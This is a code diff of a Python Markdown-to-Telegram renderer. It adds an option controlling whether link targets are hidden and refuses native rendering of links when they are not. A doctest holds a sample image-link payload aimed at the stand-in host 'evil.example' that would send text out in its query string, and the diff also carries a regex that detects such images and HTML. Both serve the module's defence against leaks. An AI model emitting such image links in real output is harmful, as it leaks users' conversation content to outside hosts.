@@ -50,11 +50,12 @@ class Rich(msgspec.Struct, frozen=True):
     entities: tuple[Entity, ...] = ()
 
 
-def to_entities(markdown: str) -> Rich:
+def to_entities(markdown: str, *, hide_targets: bool = True) -> Rich:
     """Render *markdown* (CommonMark, tables, strikethrough) for Telegram.
 
     No character of the text is lost: HTML, unknown syntax, links by reference and unsafe link
-    targets stay visible as text; images become links, so that nothing is loaded.  The text is
+    targets stay visible as text, as do all targets without *hide_targets*; images become links, so
+    that nothing is loaded.  The text is
     trimmed, entities nest properly and begin and end in visible characters.  It may be longer than
     a message, and empty: `splitting.split` makes messages of it.
     """
@@ -65,7 +66,7 @@ def to_entities(markdown: str) -> Rich:
     if is_too_deep(tokens):
         return Rich(source.strip())
     page = TextPage()
-    Renderer(page, source.split("\n"), hide_targets=True).render(tokens)
+    Renderer(page, source.split("\n"), hide_targets=hide_targets).render(tokens)
     text, spans = page.finish()
     offsets = utf16_offsets(text)
     return Rich(text, tuple(_entity(span, offsets) for span in spans))
@@ -81,20 +82,25 @@ def is_too_deep(tokens: "Sequence[Token]") -> bool:
 MAX_NATIVE = 30_000
 # Pictures, which it would load, and HTML; formulas, spoilers and marks, which nobody meant.
 _NOT_NATIVE = re.compile(r"!\[|<[A-Za-z/!?]|\$[^$]*\$|\|\|[^|]*\|\||==\S[^=]*==")
+# Links, also by reference, which Telegram hides the address of.
+_LINK = re.compile(r"\][(\[:]")
 _PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
 
 
-def native(markdown: str, footer: str) -> str:
+def native(markdown: str, footer: str, *, hide_targets: bool = True) -> str:
     r"""Return a reply as Markdown that Telegram draws itself; empty if it must be sent otherwise.
 
     It must if there is a picture or HTML anywhere in it: what is code to our parser need not be
-    code to theirs, and a picture that is loaded carries words out.  The footer is a quote.
+    code to theirs, and a picture that is loaded carries words out.  Without *hide_targets* it must
+    if there is a link.  The footer is a quote.
 
     >>> native("# A\n\nb", "read *x*"), native("`![](https://evil.example/?words)`", "")
     ('# A\n\nb\n\n> read \\*x\\*', '')
     """
     text, footer = clean(markdown).strip(), clean(footer)
     if len(text) + len(footer) > MAX_NATIVE or _NOT_NATIVE.search(f"{text}\n{footer}"):
+        return ""
+    if not hide_targets and _LINK.search(text):
         return ""
     lines = [_PUNCTUATION.sub(r"\\\1", line) for line in footer.splitlines()]
     quote = "  \n> ".join(lines)
